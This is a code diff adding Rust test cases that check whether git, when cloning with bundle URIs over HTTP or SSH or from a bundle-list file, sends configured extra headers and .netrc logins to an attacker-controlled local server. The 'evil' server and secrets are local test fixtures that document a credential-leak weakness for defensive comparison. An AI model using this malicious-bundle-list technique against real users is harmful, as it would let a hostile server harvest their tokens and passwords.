@@ -9,6 +9,9 @@ use crate::servers::http::{begin, challenge, redirect, respond};
 /// The reason why git takes files of this machine.
 const TRUSTING: &str = "a server may name any file of this machine";
 
+/// The reason why git tells every server of bundles the user's secrets.
+const GENEROUS: &str = "its helper sends headers and logins to all servers";
+
 /// The reason why some rows have no control run.
 const PATIENT: &str = "it has no bound here, and would run until the server ends";
 
@@ -115,8 +118,55 @@ fn credentials(table: &mut Table) {
         let url = format!("http://127.0.0.1:{server}/x");
         command(["-c", "transfer.bundleURI=true", "clone", &url, "clone"])
             .succeeds()
-            .git_differs("its helper sends all headers to all servers")
+            .git_differs(GENEROUS)
     });
+    for (name, of) in [("git", None), ("ssh", Some("ssh"))] {
+        table.row(format!("login-of-a-server-by-{name}"), move |scene| {
+            let evil = logins(scene);
+            let list = lines([
+                b"bundle.version=1".as_slice(),
+                b"bundle.mode=all",
+                format!("bundle.x.uri=http://127.0.0.1:{evil}/x").as_bytes(),
+            ]);
+            let offer = Offer::new(scene.ids).bundles(list);
+            let (url, variables) = match of {
+                None => (scene.git_server(offer), None),
+                Some(_) => ("ssh://host/x".to_owned(), Some(scene.ssh(&offer))),
+            };
+            let mut attack =
+                command(["-c", "transfer.bundleURI=true", "clone", &url, "clone"]).succeeds();
+            if let Some(ssh) = variables {
+                attack = attack.variable("GIT_SSH_COMMAND", ssh);
+            }
+            attack.git_differs(GENEROUS)
+        });
+    }
+    table.row("login-of-a-list-in-a-file", |scene| {
+        let evil = logins(scene);
+        let uri = format!("http://127.0.0.1:{evil}/x");
+        scene.write(
+            "work/list",
+            format!("[bundle]\nversion=1\nmode=all\n[bundle \"x\"]\nuri = {uri}\n"),
+        );
+        let server = scene.git_server(Offer::new(scene.ids));
+        command(["clone", "--bundle-uri=list", &server, "clone"])
+            .succeeds()
+            .git_differs(GENEROUS)
+    });
+}
+
+/// Sets a header for all servers, and a login for all ports of this machine. Returns the port of a server that
+/// asks for a login and must get neither.
+fn logins(scene: &mut Scene) -> u16 {
+    let evil = scene.http(|_, out| challenge(out));
+    let header = scene.secret(None);
+    scene.configure(&format!("[http]\n\textraHeader = X-Token: {header}\n"));
+    let password = scene.secret(None);
+    scene.write(
+        "home/.netrc",
+        format!("machine 127.0.0.1 login user password {password}\n"),
+    );
+    evil
 }
 
 /// Servers and lists without end.
